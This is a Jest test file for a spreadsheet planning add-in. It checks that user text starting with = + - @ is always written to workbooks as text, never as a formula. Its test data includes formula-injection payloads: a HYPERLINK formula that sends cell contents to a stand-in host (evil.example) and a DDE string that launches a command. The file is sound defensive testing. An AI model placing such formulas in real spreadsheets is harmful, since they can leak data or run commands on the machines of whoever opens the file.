/**
 * Formula injection: text from unit workbooks (or a profile's lists) that starts with = + - @ must land
 * as that text, never as a formula, on every write path — the exceljs writer (master plans, reports,
 * `dplan merge`), the Excel host's writeTable, editCells and dropdown lists (fake Excel, which reads
 * typed input the way Excel does), and the playground's xlsx host. Look-alikes (dates, numbers with
 * leading zeros, error names, TRUE) stay text too: "a string is always text".
 */
import * as fs from "node:fs";
import * as os from "node:os";
import * as path from "node:path";
import ExcelJS from "exceljs";
import { main } from "../../src/cli/main";
import { ExcelWorkbookHost } from "../../src/excel/ExcelWorkbookHost";
import { LISTS_SHEET } from "../../src/excel/dropdowns";
import type { CellValue, StandardList, TableWrite } from "../../src/workbook/types";
import { writeWorkbook } from "../../src/xlsx/writeWorkbook";
import { XlsxWorkbookHost } from "../../src/xlsx/XlsxWorkbookHost";
import { createWorkbook, installFakeExcel, sheetByName, type FakeExcel } from "../excel/fakeExcel";
import { buildXlsx } from "../fixtures/generate";
import { inspectZip } from "../../src/xlsx/zipDirectory";
import { goodRow, OUTBOUND_HEADER } from "../robustness/corpus";
import { diskIO } from "../robustness/support";

jest.setTimeout(60_000);

/** Texts a spreadsheet would run or reinterpret if they were typed in. */
const INJECTIONS = [
  "=1+1",
  '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
  "=cmd|' /C calc'!A0",
  "+1+2",
  "+84 912 345 678",
  "-1+2",
  "-5 ngày",
  "@SUM(A1:A3)",
  "=",
  "15/3/2025",
  "00123",
  "1e5",
  "TRUE",
  "#REF!",
  "'đã có dấu nháy",
];

function table(sheet: string): TableWrite {
  return { sheet, headerRows: 1, rows: [["STT", "Nội dung"], ...INJECTIONS.map((text, i): CellValue[] => [i + 1, text])] };
}

/** Every cell of a written .xlsx: its exceljs value and whether it holds a formula; and whether any sheet XML has <f>. */
async function readBack(bytes: Uint8Array): Promise<{ cells: Map<string, { value: unknown; formula: boolean }>; formulaElements: number }> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
  const cells = new Map<string, { value: unknown; formula: boolean }>();
  workbook.eachSheet((sheet) =>
    sheet.eachRow((row, r) =>
      row.eachCell((cell, c) => {
        const value = cell.value as unknown;
        const formula = typeof value === "object" && value !== null && ("formula" in value || "sharedFormula" in value);
        cells.set(`${sheet.name}!${r},${c}`, { value, formula });
      }),
    ),
  );
  // Count <f> elements in the sheet parts themselves (JSZip through exceljs is not needed: list and inflate).
  const zip = inspectZip(bytes)!;
  let formulaElements = 0;
  const { inflateRawSync } = await import("node:zlib");
  const view = Buffer.from(bytes);
  for (const part of zip.parts.filter((p) => /^xl\/worksheets\/.*\.xml$/.test(p.name))) {
    const start = part.localHeaderOffset + 30 + view.readUInt16LE(part.localHeaderOffset + 26) + view.readUInt16LE(part.localHeaderOffset + 28);
    const data = view.subarray(start, start + part.compressedBytes);
    const xml = (part.method === 8 ? inflateRawSync(data) : data).toString("utf8");
    formulaElements += (xml.match(/<f[\s>]/g) ?? []).length;
  }
  return { cells, formulaElements };
}

function expectTextCells(cells: Map<string, { value: unknown; formula: boolean }>, sheet: string, column: number, firstRow: number) {
  INJECTIONS.forEach((text, i) => {
    const cell = cells.get(`${sheet}!${firstRow + i},${column}`);
    expect({ text, value: cell?.value, formula: cell?.formula }).toEqual({ text, value: text, formula: false });
  });
}

describe("exceljs writer (master plans, reports)", () => {
  test("writeWorkbook stores each text as text; the file has no formula at all", async () => {
    const lists: StandardList[] = [{ id: "countries", title: "Nước", items: INJECTIONS }];
    const bytes = await writeWorkbook([table("Báo cáo")], { dropdowns: { lists, targets: [{ sheet: "Báo cáo", column: 2, firstRow: 2, lastRow: 10, list: "countries" }] } });
    const { cells, formulaElements } = await readBack(bytes);
    expectTextCells(cells, "Báo cáo", 2, 2);
    expect(formulaElements).toBe(0);
    // The dropdown lists are written the same way.
    const listCells = [...cells].filter(([key]) => !key.startsWith("Báo cáo!")).map(([, cell]) => cell);
    for (const text of INJECTIONS) expect(listCells).toContainEqual({ value: text, formula: false });
  });

  test("dplan merge: a unit's texts starting with = + - @ reach the master as text", async () => {
    const folder = fs.mkdtempSync(path.join(os.tmpdir(), "dplan-injection-"));
    try {
      const unit = path.join(folder, "don-vi.xlsx");
      const rows = INJECTIONS.map((text, i) => goodRow(i + 1, { name: `Đoàn ${i + 1}`, purpose: `Học tập kinh nghiệm ${i + 1}`, notes: text }));
      fs.writeFileSync(unit, await buildXlsx({ file: "don-vi.xlsx", description: "", sheets: [{ name: "Đoàn ra", rows: [["KẾ HOẠCH ĐOÀN RA NĂM 2025"], ["Đơn vị: Sở Y tế"], OUTBOUND_HEADER, ...rows], expect: false }] }));
      const master = path.join(folder, "tong-hop.xlsx");
      const io = diskIO();
      const code = await main(["merge", unit, "-o", master, "--year", "2025"], io);
      expect(io.err).not.toMatch(/\n\s+at /);
      expect([0, 1]).toContain(code);
      const { cells, formulaElements } = await readBack(fs.readFileSync(master));
      // The only formulas are the add-in's own Tổng cộng cells (a count and two sums), none from a unit's text.
      const formulas = [...cells.values()].filter((cell) => cell.formula).map((cell) => (cell.value as { formula: string }).formula);
      expect(formulaElements).toBe(formulas.length);
      expect(formulas.sort()).toEqual([expect.stringMatching(/^COUNTA\(G\d+:INDEX\(G:G,ROW\(\)-1\)\)$/), expect.stringMatching(/^SUM\(E\d+:INDEX\(E:E,ROW\(\)-1\)\)$/), expect.stringMatching(/^SUM\(O\d+:INDEX\(O:O,ROW\(\)-1\)\)$/)]);
      const values = [...cells.values()].map((cell) => cell.value);
      for (const text of INJECTIONS) expect(values).toContain(text);
    } finally {
      fs.rmSync(folder, { recursive: true, force: true });
    }
  });
});

describe("Excel host (fake Excel, which parses typed input as Excel does)", () => {
  let fake: FakeExcel;
  afterEach(() => fake?.uninstall());

  function cellsOf(sheet: string, column: number, firstRow: number) {
    const data = sheetByName(fake.workbook, sheet);
    return INJECTIONS.map((text, i) => {
      const cell = data.cells.get(`${firstRow + i},${column}`);
      return { text, value: cell?.value, formula: cell?.formula ?? null };
    });
  }

  test("the fake would make formulas of unprotected input (so the checks below can fail)", async () => {
    fake = installFakeExcel(createWorkbook({ sheets: [{ name: "A" }] }));
    await Excel.run(async (context) => {
      context.workbook.worksheets.getItem("A").getRange("A1:A2").values = [["=1+1"], ["@SUM(B1)"]];
      await context.sync();
    });
    expect(sheetByName(fake.workbook, "A").cells.get("1,1")?.formula).toBe("=1+1");
    expect(sheetByName(fake.workbook, "A").cells.get("2,1")?.formula).toBe("@SUM(B1)");
  });

  test("writeTable stores each text as text", async () => {
    fake = installFakeExcel(createWorkbook({ sheets: [{ name: "Đoàn ra", values: [["x"]] }] }));
    await new ExcelWorkbookHost().writeTable(table("Báo cáo"));
    expect(cellsOf("Báo cáo", 2, 2)).toEqual(INJECTIONS.map((text) => ({ text, value: text, formula: null })));
  });

  test("editCells (quick fixes) stores each text as text", async () => {
    fake = installFakeExcel(createWorkbook({ sheets: [{ name: "Đoàn ra", values: INJECTIONS.map(() => ["cũ"]) }] }));
    const written = await new ExcelWorkbookHost().editCells(INJECTIONS.map((text, i) => ({ sheet: "Đoàn ra", row: i + 1, column: 1, expected: "cũ", value: text })));
    expect(written).toBe(INJECTIONS.length);
    expect(cellsOf("Đoàn ra", 1, 1)).toEqual(INJECTIONS.map((text) => ({ text, value: text, formula: null })));
  });

  test("dropdown lists (a department's own profile may carry any text) are stored as text", async () => {
    fake = installFakeExcel(createWorkbook({ sheets: [{ name: "Đoàn ra", values: [["Nước đến"], ["Nhật Bản"]] }] }));
    await new ExcelWorkbookHost().setDropdowns([{ id: "countries", title: "Nước", items: INJECTIONS }], [{ sheet: "Đoàn ra", column: 1, firstRow: 2, lastRow: 5, list: "countries" }]);
    expect(cellsOf(LISTS_SHEET, 1, 2)).toEqual(INJECTIONS.map((text) => ({ text, value: text, formula: null })));
  });
});

describe("xlsx host (playground)", () => {
  test("writeTable, editCells and dropdown lists store each text as text; the downloaded file has no formula", async () => {
    const host = await XlsxWorkbookHost.create("ke-hoach.xlsx", "Đoàn ra");
    await host.writeTable(table("Báo cáo"));
    await host.writeTable({ sheet: "Đoàn ra", headerRows: 0, rows: INJECTIONS.map(() => ["cũ"]) });
    expect(await host.editCells(INJECTIONS.map((text, i) => ({ sheet: "Đoàn ra", row: i + 1, column: 1, expected: "cũ", value: text })))).toBe(INJECTIONS.length);
    await host.setDropdowns([{ id: "countries", title: "Nước", items: INJECTIONS }], [{ sheet: "Đoàn ra", column: 2, firstRow: 1, lastRow: 5, list: "countries" }]);
    const { cells, formulaElements } = await readBack(await host.toBuffer());
    expectTextCells(cells, "Báo cáo", 2, 2);
    expectTextCells(cells, "Đoàn ra", 1, 1);
    expect(formulaElements).toBe(0);
  });
});
